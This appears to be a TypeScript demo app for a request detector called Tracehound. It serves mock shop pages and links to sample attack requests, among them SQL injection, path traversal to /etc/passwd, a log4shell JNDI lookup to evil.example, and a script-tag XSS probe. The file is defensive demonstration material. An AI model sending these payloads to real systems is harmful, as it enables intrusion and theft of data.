/** A few pages worth attacking. Everything that comes from outside is escaped: Tracehound is no excuse not to. */

import type { Hono } from 'hono';
import { html } from 'hono/html';

type Page = ReturnType<typeof html>;

const page = (title: string, body: Page): Page => html`<!doctype html>
<html lang="en">
  <meta charset="utf-8" />
  <meta name="viewport" content="width=device-width" />
  <title>${title}</title>
  <style>
    body { font: 1rem/1.5 system-ui, sans-serif; max-width: 40rem; margin: 3rem auto; padding: 0 1rem; }
    code { background: #eee; padding: 0 0.2rem; }
  </style>
  <h1>${title}</h1>
  ${body}
</html>`;

const attack = (label: string, target: string): Page =>
  html`<li><a href="${target}">${label}</a> <code>${target}</code></li>`;

export function pages(app: Hono): void {
  app.get('/', (c) =>
    c.html(
      page(
        'A shop behind Tracehound',
        html`<p>Ordinary pages: <a href="/search?q=shoes">search</a>, <a href="/login">log in</a>, <a href="/files/terms.txt">a file</a>.</p>
          <p>Requests that the example detector flags (answered 403, kept as evidence):</p>
          <ul>
            ${attack('SQL injection', "/search?q=' OR 1=1--")}
            ${attack('path traversal', '/files/..%2f..%2fetc%2fpasswd')}
            ${attack('log4shell', '/search?q=$' + '{jndi:ldap://evil.example/a}')}
            ${attack('cross-site scripting', '/search?q=<script>alert(1)</script>')}
          </ul>
          <p>What was caught: <a href="/_tracehound/">/_tracehound/</a> (this machine only).</p>`,
      ),
    ),
  );
  app.get('/search', (c) => c.html(page('Search', html`<p>Nothing found for <b>${c.req.query('q') ?? ''}</b>.</p>`)));
  app.get('/login', (c) =>
    c.html(
      page(
        'Log in',
        html`<form method="post">
          <label>Name <input name="user" /></label>
          <label>Password <input name="password" type="password" /></label>
          <button>Log in</button>
        </form>`,
      ),
    ),
  );
  app.post('/login', async (c) => {
    const { user } = await c.req.parseBody();
    return c.html(page('Log in', html`<p>No account named <b>${String(user ?? '')}</b>.</p>`), 401);
  });
  app.get('/files/:name', (c) => c.text(`The file ${c.req.param('name')} would be here.\n`));
  /** Counts the bytes of an upload without ever holding them. */
  app.post('/files', async (c) => {
    let bytes = 0;
    for await (const chunk of c.req.raw.body ?? []) bytes += chunk.length;
    return c.text(`${bytes} bytes received.\n`);
  });
}
